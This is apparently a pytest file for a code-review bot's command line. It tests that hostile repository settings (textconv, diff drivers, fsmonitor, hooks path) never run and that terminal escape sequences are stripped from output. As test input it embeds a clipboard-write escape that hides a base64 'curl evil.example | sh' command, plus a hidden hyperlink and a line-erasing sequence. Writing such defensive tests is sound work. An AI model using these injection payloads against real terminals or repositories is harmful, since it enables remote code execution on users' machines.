"""The smaller levers of a hostile pass (issue 36): what a repository or a pull request could
make the command line run or print, and what the bot could leak in what it posts."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from app.cli.terminal import printable
from app.ops.doctor import check_linters, isolation_check
from app.review.analyzers import LINTERS
from app.review.isolation.limits import Confinement
from app.review.isolation.process import Isolation
from tests.test_review_cli import git, make_repo, run_cli

pytestmark = pytest.mark.slow


def armed(tmp_path: Path) -> tuple[Path, list[Path]]:
    """A clone whose configuration names commands git would run: a textconv driver and an
    external diff for every file (by ``.gitattributes``), an fsmonitor hook and a hooks path.
    Each command leaves a marker file if it ever runs."""
    repo = make_repo(tmp_path)
    markers = [tmp_path / name for name in ("textconv", "extdiff", "fsmonitor", "hook")]
    script = tmp_path / "hook.sh"
    script.write_text('#!/bin/sh\ntouch "$MARKER"\ncat "$1" 2>/dev/null\n')
    script.chmod(0o755)
    git(repo, "config", "diff.evil.textconv", f"env MARKER={markers[0]} {script}")
    git(repo, "config", "diff.evil.command", f"env MARKER={markers[1]} {script}")
    git(repo, "config", "core.fsmonitor", f"env MARKER={markers[2]} {script}")
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    (hooks / "post-checkout").write_text(f"#!/bin/sh\ntouch {markers[3]}\n")
    (hooks / "post-checkout").chmod(0o755)
    git(repo, "config", "core.hooksPath", str(hooks))
    (repo / ".gitattributes").write_text("* diff=evil\n")
    git(repo, "add", ".gitattributes")
    git(repo, "commit", "-qm", "attributes")
    for marker in markers:
        marker.unlink(missing_ok=True)  # the test's own git calls above may have run some
    return repo, markers


@pytest.mark.parametrize(
    "args",
    [("--git", "main..topic"), ("--commits", "2")],
    ids=["review --git", "review --commits"],
)
def test_the_command_line_never_runs_a_driver_or_hook_the_repository_names(
    tmp_path: Path, args: tuple[str, ...]
) -> None:
    repo, markers = armed(tmp_path)
    git(repo, "checkout", "-q", "topic")
    for marker in markers:
        marker.unlink(missing_ok=True)
    result = run_cli(*args, "--repo", str(repo), "--format", "json")
    assert result.returncode in (0, 1), result.stderr
    assert [m.name for m in markers if m.exists()] == []
    if args[0] == "--git":  # the real text was reviewed, not a driver's rendering of it
        found = {(f["path"], f["rule"]) for f in json.loads(result.stdout)["findings"]}
        assert ("app.py", "python/F821") in found


OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes to the clipboard
HIDE = "\x1b[2K\x1b[1A\r"  # erases the line and moves up: hides what was printed before


def test_commit_subjects_reach_the_terminal_without_their_control_sequences(tmp_path: Path) -> None:
    repo = make_repo(tmp_path)
    git(repo, "commit", "-q", "--allow-empty", "-m", f"Harmless{OSC52} title{HIDE}\x07\x9b")
    result = run_cli("--commits", "2", "--repo", str(repo))
    assert "Harmless title" in result.stdout, result.stdout
    assert not any(ch in result.stdout + result.stderr for ch in "\x1b\x07\r\x9b")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain\ttext\n", "plain\ttext\n"),
        (f"copy{OSC52}me", "copyme"),
        ("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),  # a hidden hyperlink
        (f"a{HIDE}b", "ab"),
        ("bell\x07, null\x00, del\x7f, csi\x9b", "bell, null, del, csi"),
        ("ünïcode ✓", "ünïcode ✓"),
    ],
)
def test_printable_drops_every_control_sequence(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_a_missing_linter_is_named_without_the_hosts_paths_where_it_is_posted() -> None:
    """A missing linter's note goes into the public review: it names the fix, never where the
    bot's interpreter lives; ``doctor`` tells the operator that."""
    for tool in LINTERS:
        note = tool.missing()
        assert sys.executable not in note and sys.prefix not in note, note
        assert f"pip install {tool.package}" in note
    said = {check.name: check.detail for check in check_linters(find=lambda program: None)}
    assert all(sys.executable in detail for detail in said.values())


@pytest.mark.parametrize(("why", "level"), [("", "ok"), ("Operation not permitted", "warn")])
def test_doctor_says_whether_the_children_could_signal_the_bot(why: str, level: str) -> None:
    check = isolation_check(Isolation(True, "", Confinement.PRIVATE_ROOT, "", why))
    assert check.level == level
    assert ("signal the bot's process (Operation not permitted)" in check.detail) is bool(why)
